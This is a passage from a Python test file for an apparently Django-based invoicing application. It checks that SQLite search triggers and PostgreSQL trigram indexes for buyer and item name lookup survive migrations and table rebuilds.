    there; the per-invoice trigram indexes of migration 0003 are gone."""
    assert search.sqlite_triggers_ensure() is False
    with connection.cursor() as cursor:
        cursor.execute("SELECT indexname FROM pg_indexes WHERE indexname LIKE %s", ["%trgm"])
        names = {row[0] for row in cursor.fetchall()}
        cursor.execute("SELECT tgname FROM pg_trigger WHERE tgname LIKE %s", ["%names%"])
        triggers = {row[0] for row in cursor.fetchall()}
    assert names == {"invoices_searchname_trgm"}
    assert triggers == {
        "invoices_invoice_names_ai",
        "invoices_invoice_names_au",
        "invoices_invoiceline_names_ai",
        "invoices_invoiceline_names_au",
    }


def test_lost_triggers_are_recreated_after_migrate_and_the_index_rebuilt(org):
    if connection.vendor != "sqlite":
        return _postgresql_keeps_its_trigram_indexes()
    with connection.cursor() as cursor:
        cursor.execute("DROP TRIGGER invoices_invoice_names_ai")
    inv = testing.invoice(seller=org, buyer_name=BUYER, day=DAY)
    assert not search.name_filter(Invoice.objects.all(), "西湖龙井", field="buyer").exists()

    assert search.sqlite_triggers_ensure() is True
    assert search.sqlite_triggers_ensure() is False
    assert list(search.name_filter(Invoice.objects.all(), "西湖龙井", field="buyer")) == [inv]


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(
    ("model", "name"), [(InvoiceLine, "name"), (Invoice, "buyer_name"), (SearchName, "name")]
)
def test_a_migration_that_rebuilds_an_invoice_table_keeps_the_search(model, name):
    """SQLite alters a column by copying the table into a new one, which drops its triggers."""
    if connection.vendor != "sqlite":
        return _postgresql_keeps_its_trigram_indexes()
    org = testing.organization()
    inv = testing.invoice(seller=org, buyer_name=BUYER, day=DAY)
    old = model._meta.get_field(name)
    new = models.CharField(max_length=old.max_length + 1)
    new.set_attributes_from_name(name)
    new.model = model
    try:
        search.sqlite_triggers_drop()  # what pre_migrate does when there are migrations to run
        with connection.schema_editor() as editor:
            editor.alter_field(model, old, new)
        search.sqlite_triggers_ensure()  # what post_migrate does after every migrate
        added = testing.invoice(seller=org, buyer_name=BUYER, day=DAY)
        InvoiceLine.objects.filter(invoice=added).update(name="*茶*西湖龙井明前特级")
        found = search.name_filter(Invoice.objects.all(), "西湖龙井", field="buyer")
        assert set(found) == {inv, added}
        assert list(search.name_filter(Invoice.objects.all(), "龙井明前", field="item")) == [added]
    finally:
        search.sqlite_triggers_drop()
        with connection.schema_editor() as editor:
            editor.alter_field(model, new, old)
        search.sqlite_triggers_ensure()


def test_the_migration_installs_the_triggers_search_recreates():
    if connection.vendor != "sqlite":
        return _postgresql_keeps_its_trigram_indexes()

    def normal(sql: str) -> str:
        return " ".join(sql.replace("IF NOT EXISTS ", "").split())

    with connection.cursor() as cursor:
        cursor.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'")
        installed = {name: normal(sql) for name, sql in cursor.fetchall()}
    for name, sql in search.SQLITE_TRIGGERS.items():
        assert installed[name] == normal(sql)
    migration = importlib.import_module("fapiao.invoices.migrations.0007_search_names")
    assert migration.SQLITE_TRIGGERS == search.SQLITE_TRIGGERS
